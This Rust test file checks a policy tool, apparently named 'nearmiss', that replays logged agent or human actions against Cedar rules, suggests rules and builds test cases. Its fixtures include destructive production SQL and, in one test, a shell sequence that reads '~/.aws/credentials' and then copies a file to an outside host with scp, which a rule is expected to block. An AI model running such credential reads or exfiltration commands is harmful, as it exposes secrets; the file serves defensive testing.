//! `suggest`: a rule from chosen actions, which stops them and not their neighbours; `check --watch`.

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Command, Output, Stdio};

use crate::support::{stderr, stdout};

fn program(folder: &Path, arguments: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_nearmiss"));
    command.args(arguments).current_dir(folder).env_remove("CI").env_remove("TF_BUILD").env("NO_COLOR", "1");
    command
}

fn run(folder: &Path, arguments: &[&str]) -> Output {
    program(folder, arguments).output().unwrap()
}

#[track_caller]
fn says(folder: &Path, arguments: &[&str], code: i32) -> String {
    let output = run(folder, arguments);
    let said = format!("{}{}", stdout(&output), stderr(&output));
    assert_eq!(output.status.code(), Some(code), "nearmiss {arguments:?}\n{said}");
    said
}

/// A policy without rules, and a history of a queue that is purged in two environments and read in one.
fn history() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    let file = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
    file("nearmiss.toml", "[policy]\nextends = []\npaths = [\"own.cedar\"]\n");
    file("own.cedar", "permit (principal, action, resource);\n");
    let mut lines = String::new();
    for (at, (text, environment)) in [
        ("UPDATE carts SET total = 0 WHERE id = 7", "production"),
        ("DELETE FROM carts WHERE id = 7", "test"),
        ("DELETE FROM carts WHERE id = 8", "test"),
        ("DELETE FROM carts WHERE id = 9", "production"),
        ("SELECT * FROM carts", "production"),
    ]
    .iter()
    .enumerate()
    {
        lines.push_str(&format!(
            "{{\"id\":\"r{at}\",\"kind\":\"sql\",\"text\":\"{text}\",\"environment\":\"{environment}\",\"session\":\"s\",\
             \"actor\":{{\"name\":\"ana\",\"kind\":\"human\"}}}}\n"
        ));
    }
    file("log.jsonl", &lines);
    folder
}

/// The id of the action with this text and environment.
fn id(folder: &Path, text: &str, environment: &str) -> String {
    let out = stdout(&run(folder, &["replay", "log.jsonl", "--format", "jsonl"]));
    let found = out.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
    let mut found = found.filter(|value| value["text"] == text && value["environment"] == environment);
    let found = found.next_back().unwrap();
    found["id"].as_str().unwrap().to_owned()
}

#[test]
fn the_circumstance_that_tells_them_apart_is_the_rule() {
    let folder = history();
    let id = id(folder.path(), "DELETE FROM carts WHERE id = 9", "production");
    let said = says(folder.path(), &["suggest", &id[..8], "log.jsonl", "--format", "json"], 0);
    let value: serde_json::Value = serde_json::from_str(&said).unwrap();
    assert_eq!(value["conditions"], serde_json::json!(["resource in Environment::\"production\""]), "{said}");
    assert_eq!((&value["stopped"], &value["also"]["actions"]), (&1.into(), &0.into()), "{said}");
    let rule = value["rule"].as_str().unwrap();
    assert!(rule.contains("@id(\"own.delete-table-in-production\")") && rule.contains("@allows("), "{rule}");

    // What is written is a policy that holds what it says, in Cedar's layout.
    says(folder.path(), &["suggest", &id, "log.jsonl", "-o", "new.cedar", "--decision", "ask"], 0);
    says(folder.path(), &["check", "own.cedar", "new.cedar"], 0);
    says(folder.path(), &["fmt", "--check", "new.cedar"], 0);
    let said = says(folder.path(), &["suggest", &id, "log.jsonl", "-o", "new.cedar"], 2);
    assert!(said.contains("is there already"), "{said}");
    let out = stdout(&run(
        folder.path(),
        &["replay", "log.jsonl", "--policy", "own.cedar", "--policy", "new.cedar", "--format", "jsonl"],
    ));
    assert_eq!(out.matches("\"decision\":\"ask\"").count(), 1, "{out}");
}

#[test]
fn what_no_rule_tells_apart_is_said_with_its_count() {
    let folder = history();
    // The same act under another record: nothing that a rule can see differs.
    let mut lines = std::fs::read_to_string(folder.path().join("log.jsonl")).unwrap();
    let twin = lines.lines().nth(3).unwrap().replace("\"r3\"", "\"r9\"");
    lines.push_str(&twin);
    std::fs::write(folder.path().join("log.jsonl"), lines).unwrap();
    let id = id(folder.path(), "DELETE FROM carts WHERE id = 9", "production");
    let said = says(folder.path(), &["suggest", &id, "log.jsonl"], 0);
    assert!(said.contains("would also have stopped: 1 actions, 1 templates"), "{said}");
    assert!(said.contains("has in common") && said.contains("Environment::\"production\""), "{said}");
}

#[test]
fn a_case_that_is_wrong_asks_for_its_rule_and_its_twin_is_spared() {
    let folder = history();
    let cases = "[[case]]\nname = \"carts stay\"\nexpect = \"stop\"\naction = { kind = \"sql\", text = \"TRUNCATE carts\", \
                 environment = \"production\" }\n[[case.twin]]\ndiffers = \"staging\"\nexpect = \"pass\"\n\
                 action = { kind = \"sql\", text = \"TRUNCATE carts\", environment = \"staging\" }\n";
    std::fs::write(folder.path().join("cases.toml"), cases).unwrap();
    let said = says(folder.path(), &["suggest", "--case", "cases.toml", "log.jsonl", "-o", "new.cedar"], 0);
    assert!(said.contains("it stops 1 of 1 chosen actions"), "{said}");
    let arguments = ["test", "cases.toml", "--policy", "own.cedar", "--policy", "new.cedar"];
    says(folder.path(), &arguments, 0);
}

#[test]
fn a_recorded_action_becomes_a_case() {
    let folder = history();
    let config = "[policy]\nextends = []\npaths = [\"own.cedar\"]\n[test]\ncases = [\"cases/own.toml\"]\n";
    std::fs::write(folder.path().join("nearmiss.toml"), config).unwrap();
    std::fs::create_dir(folder.path().join("cases")).unwrap();
    std::fs::write(folder.path().join("cases/own.toml"), "").unwrap();
    let id = id(folder.path(), "DELETE FROM carts WHERE id = 9", "production");
    let ci = program(folder.path(), &["corpus", "add", &id, "log.jsonl"]).env("CI", "1").output().unwrap();
    assert_eq!(ci.status.code(), Some(2));
    says(folder.path(), &["corpus", "add", &id[..10], "log.jsonl", "--twin"], 0);
    let text = std::fs::read_to_string(folder.path().join("cases/own.toml")).unwrap();
    assert!(text.contains("expect = \"allow\"") && text.contains("# [[case.twin]]"), "{text}");
    // Nothing before it matters to a policy without rules.
    assert!(!text.contains("before"), "{text}");
    says(folder.path(), &["test"], 0);
    // The same name again is refused; what must be stopped and is not is a wrong case until there is a rule.
    says(folder.path(), &["corpus", "add", &id, "log.jsonl"], 2);
    says(folder.path(), &["corpus", "add", &id, "log.jsonl", "--expect", "stop", "--name", "carts stay"], 0);
    says(folder.path(), &["test"], 1);
}

#[test]
fn what_a_case_hangs_on_comes_with_it() {
    let folder = tempfile::tempdir().unwrap();
    let rule = "permit (principal, action, resource);\n@id(\"own.after-secret\")\n@message(\"m\")\n@severity(\"high\")\n\
                forbid (principal, action == Action::\"export\", resource) when { context.session.read_secret };\n";
    std::fs::write(folder.path().join("own.cedar"), rule).unwrap();
    let mut lines = String::new();
    for (at, text) in ["ls", "cat ~/.aws/credentials", "pwd", "scp notes.txt dev@files.example.net:"].iter().enumerate()
    {
        lines.push_str(&format!("{{\"id\":\"{at}\",\"kind\":\"shell\",\"text\":\"{text}\",\"session\":\"s\"}}\n"));
    }
    std::fs::write(folder.path().join("log.jsonl"), lines).unwrap();
    let out = stdout(&run(folder.path(), &["replay", "log.jsonl", "--policy", "own.cedar", "--format", "jsonl"]));
    let last: serde_json::Value = serde_json::from_str(out.lines().last().unwrap()).unwrap();
    assert_eq!(last["decision"], "block", "{out}");
    let id = last["id"].as_str().unwrap();
    let said = says(folder.path(), &["corpus", "add", id, "log.jsonl", "-o", "c.toml", "--policy", "own.cedar"], 0);
    assert!(said.contains("rule = \"own.after-secret\"") && said.contains("cat ~/.aws/credentials"), "{said}");
    assert!(!said.contains("\"pwd\"") && !said.contains("\"ls\""), "{said}");
    says(folder.path(), &["test", "c.toml", "--policy", "own.cedar"], 0);
}

#[test]
fn usage_that_means_nothing_is_refused() {
    let folder = history();
    says(folder.path(), &["suggest", "log.jsonl"], 2);
    says(folder.path(), &["suggest", "0123abcd"], 2);
    let said = says(folder.path(), &["suggest", "ffffffffffffffff", "log.jsonl"], 2);
    assert!(said.contains("no action there has an id"), "{said}");
    let output =
        program(folder.path(), &["suggest", "00", "log.jsonl", "-o", "x.cedar"]).env("CI", "1").output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(!folder.path().join("x.cedar").exists());
}

#[test]
fn watching_checks_again_when_a_policy_changes() {
    let folder = history();
    let mut child =
        program(folder.path(), &["check", "--watch"]).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let first = lines.next().unwrap().unwrap();
    assert!(first.contains("(0 rules"), "{first}");
    let rule = "permit (principal, action, resource);\n@id(\"own.drop\")\n@message(\"m\")\n@severity(\"high\")\n\
                forbid (principal, action == Action::\"drop\", resource is Table);\n";
    std::fs::write(folder.path().join("own.cedar"), rule).unwrap();
    // A rule without examples brings warnings of several lines before the line that ends a check.
    let second = lines.map(Result::unwrap).find(|line| line.contains("examples do what")).unwrap();
    assert!(second.contains("(1 rules"), "{second}");
    child.kill().unwrap();
    child.wait().unwrap();
}
